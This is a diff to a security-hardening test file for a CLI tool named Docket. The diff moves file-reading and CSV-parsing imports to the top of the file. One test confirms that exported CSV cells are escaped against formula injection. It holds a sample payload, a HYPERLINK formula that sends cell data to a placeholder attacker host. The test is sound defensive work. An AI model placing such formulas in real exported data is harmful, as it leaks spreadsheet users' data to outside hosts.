@@ -2,9 +2,10 @@
 // a device, an oversized file or a file that is not Docket's (whose content must not be echoed), and
 // data files created world-readable under umask 022 (the database, outbox .eml files, backups).
 import { spawn } from 'node:child_process';
-import { mkdtempSync, readdirSync, statSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { ensureBuilt, projectRoot, runCli } from '../support/run-cli.js';
 import { createTestDatabase, describeStores } from '../support/test-stores.js';
@@ -23,10 +24,8 @@ describeStores('hardening', (ctx) => {
     for (const title of titles) expect((await docket(['deadline', 'add', '--issue', 'formulas', '--title', title, '--due', '2020-06-30', '--zone', 'UTC'])).code).toBe(0);
     const file = path.join(dir, `export-${ctx.provider}.csv`);
     expect((await docket(['export', '--output', file])).code).toBe(0);
-    const { readFileSync } = await import('node:fs');
     const text = readFileSync(file, 'utf8');
     // No cell starts with a formula character once the CSV quoting is taken off.
-    const { parse } = await import('csv-parse/sync');
     const cells = (parse(text) as string[][]).flat();
     expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
     expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
